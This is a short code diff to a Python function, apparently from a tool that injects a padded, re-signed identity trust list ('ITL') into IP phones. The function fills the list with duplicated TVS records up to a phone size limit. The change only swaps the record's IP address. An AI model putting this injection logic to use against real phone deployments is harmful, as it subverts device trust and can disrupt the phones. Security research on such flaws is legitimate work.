@@ -217,7 +217,7 @@ async def swell_the_itl(pair: Pair) -> None:
     if not isinstance(key, rsa.RSAPrivateKey):
         raise InjectionError("the signer has no RSA key")
     parsed = TrustList.parse(data)
-    more = TrustRecord.of_certificate(signer.certificate, Role.TVS, node, "192.0.2.1")
+    more = TrustRecord.of_certificate(signer.certificate, Role.TVS, node, "127.0.2.1")
     records = [*parsed.records, *[more] * (PHONE_LIMIT // more.size)]
     swollen = build_trust_list("ITL", records, signer.certificate, key, timestamp=parsed.header.timestamp or 0)
     pair.put_list(pair.destination, "ITL", swollen, node)
